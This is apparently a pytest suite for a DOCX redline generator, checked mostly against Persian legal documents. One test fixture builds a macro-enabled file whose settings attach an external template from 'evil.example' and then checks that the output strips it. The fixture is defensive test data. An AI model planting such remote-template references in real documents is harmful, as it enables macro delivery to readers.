"""The redline in the DOCX of OLD: accepting gives NEW, rejecting gives OLD, and the rest of the document stays."""

from __future__ import annotations

import random
import zipfile
from io import BytesIO
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop_app.comparison.engine import compare_texts
from desktop_app.documents.reading import read_here
from desktop_app.progress import SilentProgress
from desktop_app.reports.redline import Redline, made_by_reader, made_here, redline
from tests.documents.packages import R, paragraph, relationships, write_docx
from tests.foreign.corpus import DRAFTS, Case
from tests.reports.redline_documents import (
    ARTICLES,
    BOXES,
    NOTES,
    PAIRS,
    STYLES,
    Pair,
    field_of,
    lines,
    note,
    row,
    run,
    styled,
    table,
)
from tests.reports.redline_drafts import changed, drafted, written
from tests.reports.redlines import MAIN, W, accepted, check, part, plain, rejected, text_of
from tests.reports.redlining import PROVENANCE, grids, made
from tests.reports.tracked_changes import signed

#: The list that a style names; «Article» is that of the made documents.
LISTS = {"Article": "1"}


def exact(old: Path, new: Path) -> Redline:
    """The redline of two files, once it was seen that it gives both back."""
    found = made(old, new)
    check(found.data)
    assert text_of(accepted(found.data)) == read_here(new).text
    assert plain(part(rejected(found.data)), LISTS) == plain(part(old.read_bytes()), LISTS)
    assert text_of(rejected(found.data)) == read_here(old).text
    # The program reads tracked changes as accepted.
    assert text_of(found.data) == read_here(new).text
    return found


def of(pair: Pair, folder: Path) -> bytes:
    return exact(*pair.written(folder, "pair")).data


def styles_of(docx: bytes) -> list[str | None]:
    found = (one.find(f"{W}pPr/{W}pStyle") for one in part(docx).iter(f"{W}p"))
    return [None if one is None else one.get(f"{W}val") for one in found]


@pytest.mark.parametrize("back", [False, True])
@pytest.mark.parametrize("name", PAIRS)
def test_accepting_gives_the_newer_document_and_rejecting_the_older(
    name: str, back: bool, tmp_path: Path
) -> None:
    old, new = PAIRS[name].written(tmp_path, name)
    found = exact(new, old) if back else exact(old, new)
    assert grids(accepted(found.data)) == grids((old if back else new).read_bytes())
    with zipfile.ZipFile(BytesIO(found.data)) as package, zipfile.ZipFile(new if back else old) as source:
        assert set(package.namelist()) == set(source.namelist())
        for member in set(source.namelist()) - {MAIN, "[Content_Types].xml"}:
            assert package.read(member) == source.read(member)


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 1 << 32))
def test_both_documents_come_back_whatever_they_are(
    tmp_path_factory: pytest.TempPathFactory, seed: int
) -> None:
    chance, folder = random.Random(seed), tmp_path_factory.getbasetemp()
    before = drafted(chance)
    after = changed(chance, before)
    pair = Pair(
        written(before), written(after), {"styles": STYLES, "numbering": ARTICLES, "footnotes": NOTES}
    )
    old, new = pair.written(folder, "any")
    if read_here(old).text.strip() and read_here(new).text.strip():
        exact(old, new)


def test_a_document_with_the_parts_of_an_office_program_comes_back(tmp_path: Path) -> None:
    def saved(name: str, days: str, items: list[str], rows: int) -> Path:
        document = docx.Document()
        document.add_heading("آیین‌نامهٔ نمونه", 0)
        for item in items:
            document.add_paragraph(f"{item} تا {days} روز", style="List Number")
        document.add_paragraph("بند نشان‌دار", style="List Bullet")
        grid = document.add_table(rows, 2, style="Table Grid")
        for place in range(rows):
            grid.cell(place, 0).text, grid.cell(place, 1).text = f"سطر شمارهٔ {place}", days
        document.add_paragraph("امضا")
        document.save(str(tmp_path / name))
        return tmp_path / name

    old = saved("old.docx", "سی", ["درخواست", "پاسخ", "اعتراض"], 3)
    new = saved("new.docx", "ده", ["درخواست", "اعتراض", "بایگانی"], 4)
    found = exact(old, new)
    assert grids(accepted(found.data)) == grids(new.read_bytes())
    assert len(docx.Document(BytesIO(found.data)).styles) == len(docx.Document(str(old)).styles)


def test_a_row_is_tracked_as_a_row_and_a_word_of_a_cell_as_a_word(tmp_path: Path) -> None:
    root = part(of(PAIRS["table"], tmp_path))
    states = [
        "new" if line.find(f"{W}trPr/{W}ins") is not None
        else "gone" if line.find(f"{W}trPr/{W}del") is not None else "kept"
        for line in root.iter(f"{W}tr")
    ]  # fmt: skip
    assert states.count("kept") >= 3
    amount = next(line for line in root.iter(f"{W}tr") if "صدور پروانه" in "".join(line.itertext()))
    assert ["".join(one.itertext()) for one in amount.iter(f"{W}delText")] == ["۱۰۰٬۰۰۰"]
    rows = part(of(PAIRS["rows"], tmp_path))
    new = [line for line in rows.iter(f"{W}tr") if line.find(f"{W}trPr/{W}ins") is not None]
    gone = [line for line in rows.iter(f"{W}tr") if line.find(f"{W}trPr/{W}del") is not None]
    assert ["".join(line.itertext()) for line in new] == ["9خدمتی تازه برای همه99"]
    assert ["".join(line.itertext()) for line in gone] == ["2خدمت شمارهٔ 2 اداره200"]


def test_an_automatic_number_is_never_written_as_text(tmp_path: Path) -> None:
    document = of(PAIRS["numbering"], tmp_path)
    changes = "".join(words for tag in ("ins", "del") for _, words in signed(document, tag))
    assert "ماده" not in changes
    assert "تبصره" not in changes
    articles = text_of(accepted(document)).splitlines()
    assert articles[4].startswith("ماده ۲ گزارش")
    assert styles_of(accepted(document)).count("Article") == 4


def test_new_paragraphs_look_like_those_of_their_style_in_the_older_document(tmp_path: Path) -> None:
    document = of(PAIRS["new_last_paragraphs"], tmp_path)
    inserted = part(document).findall(f".//{W}p")
    assert "پیوست تازه" in "".join("".join(one.itertext()) for one in inserted)
    pair = Pair(
        styled("عنوان یکم", "Heading1") + paragraph("متن یکم می‌ماند.") + paragraph("پایان."),
        styled("عنوان یکم", "Heading1") + paragraph("متن یکم می‌ماند.") + styled("عنوان دوم", "Heading1")
        + paragraph("متن دوم.") + paragraph("پایان."),
        {"styles": STYLES},
    )  # fmt: skip
    assert styles_of(accepted(of(pair, tmp_path))) == ["Heading1", None, "Heading1", None, None]
    unused = Pair(
        styled("عنوان یکم", "Heading1") + styled("پایان", "Heading1"),
        styled("عنوان یکم", "Heading1") + styled("بند نو", "Article") + paragraph("متن نو")
        + styled("پایان", "Heading1"),
        {"styles": STYLES, "numbering": ARTICLES},
    )  # fmt: skip
    assert styles_of(accepted(of(unused, tmp_path))) == ["Heading1", "Article", None, "Heading1"]


def test_typed_numbers_replace_automatic_ones_without_a_number_twice(tmp_path: Path) -> None:
    document = of(PAIRS["typed_numbers"], tmp_path)
    assert text_of(accepted(document)).splitlines()[1] == "ماده ۱ـ مهلت بررسی هر درخواست بیست روز است."


def test_what_is_no_text_stays_where_it_is(tmp_path: Path) -> None:
    document = of(PAIRS["footnotes"], tmp_path)
    kept, gone = part(document).iter(f"{W}footnoteReference")
    assert not list(kept.iterancestors(f"{W}del"))
    assert list(gone.iterancestors(f"{W}del")), "the note of a deleted paragraph goes with it"
    linked = part(of(PAIRS["fields_and_links"], tmp_path))
    assert len(list(linked.iter(f"{W}bookmarkStart"))) == 1
    assert len(list(linked.iter(f"{W}hyperlink"))) == 1


def test_the_result_of_a_field_is_replaced_with_the_field(tmp_path: Path) -> None:
    for field in (
        field_of("REF a", "ماده ۵"),
        f'<w:fldSimple w:instr=" REF a ">{run("ماده ۵")}</w:fldSimple>',
    ):
        old = write_docx(tmp_path / "old.docx", lines(run("بنا بر "), field, run(" این قانون")))
        new = write_docx(tmp_path / "new.docx", lines(run("بنا بر ماده ۶ این قانون")))
        document = made(old, new).data
        assert text_of(accepted(document)) == "بنا بر ماده ۶ این قانون"
        assert text_of(rejected(document)) == "بنا بر ماده ۵ این قانون"
        assert not list(part(accepted(document)).iter(f"{W}fldChar"))


def test_the_lines_of_a_text_box_are_changed_inside_it(tmp_path: Path) -> None:
    def inside(document: bytes) -> list[str]:
        return ["".join(one.itertext()) for one in part(document).findall(f".//{W}txbxContent/{W}p")]

    old, new = BOXES.written(tmp_path, "boxes")
    assert inside(accepted(exact(old, new).data)) == ["درون کادر هشت", "کادر دو"]
    back = made(new, old).data
    # Nothing can delete the last paragraph there: it stays, and is empty.
    assert text_of(accepted(back)) == read_here(old).text + "\n"
    assert text_of(rejected(back)) == read_here(new).text
    assert inside(accepted(back)) == ["درون کادر یک", "کادر دو"]


def test_changed_columns_are_told(tmp_path: Path) -> None:
    old, new = PAIRS["columns"].written(tmp_path, "columns")
    assert made(old, new).notes == (
        "ستون‌های ۱ جدول تغییر کرده است؛ چون تغییر ستون قابل ردگیری نیست، سطرهای آن حذف‌شده و افزوده‌شده نشان داده شد.",
    )
    assert made(*PAIRS["rows"].written(tmp_path, "rows")).notes == ()


def test_a_changed_footnote_is_told_and_the_text_is_tracked(tmp_path: Path) -> None:
    def written_with(name: str, days: str, decree: str) -> Path:
        body = lines(run(f"ماده ۱ـ مهلت رسیدگی {days} روز است."), note(1))
        return write_docx(tmp_path / name, body, footnotes=NOTES.replace("پانوشت 1", decree))

    old, new = written_with("old.docx", "سی", "مصوبهٔ ۱۲۳۴"), written_with("new.docx", "ده", "مصوبهٔ ۱۲۳۹")
    assert exact(old, new).notes == (
        "۱ تغییر در پانوشت‌ها، یادداشت‌ها، سربرگ‌ها و پابرگ‌ها در این فایل ثبت نشده است؛ در مقایسه دیده می‌شود.",
    )


def test_changes_that_the_file_already_tracked_are_accepted_first_and_that_is_told(tmp_path: Path) -> None:
    def change(tag: str, text: str) -> str:
        words = (
            run(text)
            if tag == "ins"
            else run(text).replace("w:t>", "w:delText>").replace("w:t ", "w:delText ")
        )
        return f'<w:{tag} w:id="1" w:author="الف" w:date="2026-01-01T00:00:00Z">{words}</w:{tag}>'

    mark = '<w:rPr><w:del w:id="3" w:author="الف"/></w:rPr>'
    body = (
        lines(run("مهلت "), change("del", "ده"), change("ins", "بیست"), run(" روز است."))
        + paragraph("این بند با ", mark) + paragraph("بعدی یکی شد.")
        + table(row("الف", "ب", properties='<w:del w:id="4" w:author="الف"/>'), row("پ", "ت"), columns=2)
        + paragraph("پایان")
    )  # fmt: skip
    header = lines(change("del", "پیش‌نویس"), change("ins", "نهایی"))
    old = write_docx(tmp_path / "old.docx", body, styles=STYLES, header=header)
    new = write_docx(
        tmp_path / "new.docx",
        paragraph("مهلت سی روز است.") + paragraph("این بند با بعدی یکی شد.")
        + table(row("پ", "ث"), columns=2) + paragraph("پایان"),
    )  # fmt: skip
    found = made(old, new)
    check(found.data)
    assert text_of(accepted(found.data)) == read_here(new).text
    assert text_of(rejected(found.data)) == "مهلت بیست روز است.\nاین بند با بعدی یکی شد.\nپ\tت\nپایان"
    assert "".join(part(found.data, "word/header.xml").itertext()) == "نهایی"
    # The newer document has no header.
    assert found.notes[1:] == ("تغییراتی که پیش‌تر در فایل قدیم ردگیری شده بود، نخست پذیرفته شد.",)


@pytest.mark.parametrize("suffix", [".txt", ".html"])
def test_the_newer_document_may_be_no_docx(suffix: str, tmp_path: Path) -> None:
    old, _ = PAIRS["numbering"].written(tmp_path, "law")
    new = tmp_path / f"new{suffix}"
    text = read_here(old).text.replace("سی روز", "ده روز") + "\nماده ۵ بازرس هر سال گزارش می‌دهد."
    new.write_text(
        text if suffix == ".txt" else "".join(f"<p>{line}</p>" for line in text.split("\n")), "utf-8"
    )
    document = exact(old, new).data
    assert styles_of(accepted(document))[-1] == "Article"


def test_macros_and_what_may_bring_them_are_left_out(tmp_path: Path) -> None:
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{MAIN}" ContentType="{main}"/></Types>'
    )
    extra = {
        "[Content_Types].xml": types.encode(),
        "word/vbaProject.bin": b"macro",
        "word/_rels/document.xml.rels": relationships(
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            f'Target="vbaProject.bin"/><Relationship Id="rId2" Type="{R}/settings" Target="settings.xml"/>'
        ),
        "word/settings.xml": (
            f'<w:settings xmlns:w="{W[1:-1]}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
        ).encode(),
        "word/_rels/settings.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/>'
        ),
    }
    old = write_docx(tmp_path / "old.docm", paragraph("متن یکم است."), extra=extra)
    new = write_docx(tmp_path / "new.docx", paragraph("متن دوم است."))
    found = exact(old, new)
    with zipfile.ZipFile(BytesIO(found.data)) as package:
        assert "word/vbaProject.bin" not in package.namelist()
        whole = b"".join(package.read(name) for name in package.namelist())
    assert b"evil.example" not in whole
    assert b"macroEnabled" not in whole
    assert b"attachedTemplate" not in whole
    assert found.notes == ("ماکروهای فایل قدیم کنار گذاشته شد.",)


def test_the_strict_variant_becomes_the_common_one_in_all_parts(tmp_path: Path) -> None:
    old, new = PAIRS["table"].written(tmp_path, "strict")
    strict = BytesIO()
    with zipfile.ZipFile(old) as source, zipfile.ZipFile(strict, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            data = data.replace(W[1:-1].encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")
            target.writestr(
                name, data.replace(R.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")
            )
    old.write_bytes(strict.getvalue())
    found = made(old, new)
    assert text_of(accepted(found.data)) == read_here(new).text
    with zipfile.ZipFile(BytesIO(found.data)) as package:
        assert not any(b"purl.oclc.org" in package.read(name) for name in package.namelist())


def test_a_file_that_is_not_the_compared_one_gives_a_document_made_from_the_texts(tmp_path: Path) -> None:
    old, new = PAIRS["table"].written(tmp_path, "a")
    before, after = read_here(old), read_here(new)
    comparison = compare_texts(before.text, after.text, old_name=before.name, new_name=after.name)
    PAIRS["rows"].written(tmp_path, "a")
    found = redline(comparison, PROVENANCE, old, new, made_here)
    assert text_of(found.data) == after.text
    assert part(found.data).find(f".//{W}tbl") is not None
    assert len(found.notes) == 2
    old.write_bytes(b"PK\x03\x04 no package")
    broken = redline(comparison, PROVENANCE, old, new, made_here)
    assert text_of(broken.data) == after.text
    assert old.name in broken.notes[0]


def test_texts_without_a_docx_of_the_older_side_go_on_as_before(tmp_path: Path) -> None:
    old = tmp_path / "old.txt"
    old.write_text("ماده ۱ـ متن یکم.", "utf-8")
    new = write_docx(tmp_path / "new.docx", paragraph("ماده ۱ـ متن دوم."))
    found = made(old, new)
    assert found.notes == ()
    assert part(found.data, "word/footer1.xml") is not None


def test_the_process_for_foreign_files_makes_the_same(tmp_path: Path) -> None:
    old, new = PAIRS["numbering"].written(tmp_path, "law")
    before, after = read_here(old), read_here(new)
    comparison = compare_texts(before.text, after.text, old_name=before.name, new_name=after.name)
    there = redline(comparison, PROVENANCE, old, new, made_by_reader(SilentProgress()))
    assert there == made(old, new)


@pytest.mark.parametrize(
    "case", [case for case in DRAFTS if case.name.endswith(".docx")], ids=lambda case: case.name
)
def test_a_file_that_means_harm_ends_nothing_but_its_own_redline(case: Case, tmp_path: Path) -> None:
    text = "ماده ۱ـ متن یکم."
    comparison = compare_texts(text, "ماده ۱ـ متن دوم.")
    path, new = case.write(tmp_path), tmp_path / "new.txt"
    found = redline(comparison, PROVENANCE, path, new, made_by_reader(SilentProgress()))
    assert text_of(found.data) == "ماده ۱ـ متن دوم."
    assert found.notes


def test_a_long_document_is_written_in_time_that_grows_with_it(tmp_path: Path) -> None:
    from time import process_time  # noqa: PLC0415

    def seconds(count: int) -> float:
        texts = [f"بند شمارهٔ {n} دربارهٔ موضوع {n * 7} است و می‌ماند." for n in range(count)]
        old = write_docx(tmp_path / "old.docx", "".join(paragraph(text) for text in texts))
        halves = (text.replace("می‌ماند", "می‌رود") if n % 2 else text for n, text in enumerate(texts))
        new = write_docx(tmp_path / "new.docx", "".join(paragraph(text) for text in halves))
        before = process_time()
        made(old, new)
        return process_time() - before

    seconds(50)
    assert seconds(2000) < 12 * max(seconds(400), 0.1)
